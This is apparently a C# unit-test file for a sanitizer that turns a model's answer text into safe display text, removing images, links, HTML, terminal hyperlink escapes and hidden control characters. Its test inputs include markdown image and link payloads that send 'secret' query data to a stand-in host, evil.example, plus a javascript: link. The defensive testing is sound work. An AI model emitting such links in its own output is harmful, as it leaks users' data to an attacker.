using CentralOps.Agent.Shown;

namespace CentralOps.Agent.Tests.Loop;

/// <summary>What a person is shown of a model's words.</summary>
public sealed class AnswerTextTests
{
    [Theory]
    [InlineData("![chart](https://evil.example/?q=secret)", "(image left out)")]
    [InlineData("see ![x][1] here", "see (image left out) here")]
    [InlineData("<img src=https://evil.example/x.png>", "(image left out)")]
    [InlineData("[click here](https://evil.example/?q=secret)", "click here")]
    [InlineData("[click](javascript:alert(1)", "click")]
    [InlineData("go to https://evil.example/path?data=222222222222 now", "go to evil.example/path… now")]
    [InlineData("[1]: https://evil.example/#secret", "[1]: evil.example/…")]
    [InlineData("<a href=\"https://evil.example\">here</a>", "here")]
    [InlineData("\u001b]8;;https://evil.example\u001b\\text\u001b]8;;\u001b\\", "]8;;evil.example\\text]8;;\\")]
    [InlineData("a\u202eb\u200bc\u009b", "abc")]
    [InlineData("arn:aws:s3:::bucket and i-0123456789abcdef0, 10.0.0.0/16 [2 of 3] (all)", "arn:aws:s3:::bucket and i-0123456789abcdef0, 10.0.0.0/16 [2 of 3] (all)")]
    [InlineData("State < 5 and > 3", "State < 5 and > 3")]
    public void Nothing_in_it_acts_is_drawn_or_can_be_followed(string text, string shown) => AnswerText.Of(text).ShouldBe(shown);

    [Fact]
    public void Halves_of_a_link_that_come_apart_are_no_link()
    {
        var lines = new List<string>();
        var shown = new LineByLine(lines.Add);
        foreach (var piece in "One [link](https://evil.exam".Chunk(3).Concat("ple/?q=1) and\nanother ![i](http://x.example/y)".Chunk(2)))
        {
            shown.Add(new string(piece));
        }

        shown.End();
        lines.ShouldBe(["One link and", "another (image left out)"]);
    }

    [Fact]
    public void A_line_without_an_end_is_shown_in_bounded_parts()
    {
        var lines = new List<string>();
        var shown = new LineByLine(lines.Add);
        shown.Add(string.Concat(Enumerable.Repeat("word ", 10_000)));
        shown.Add(new string('x', 1_000_000));
        shown.End();
        lines.ShouldAllBe(static line => line.Length <= 20_000);
    }
}
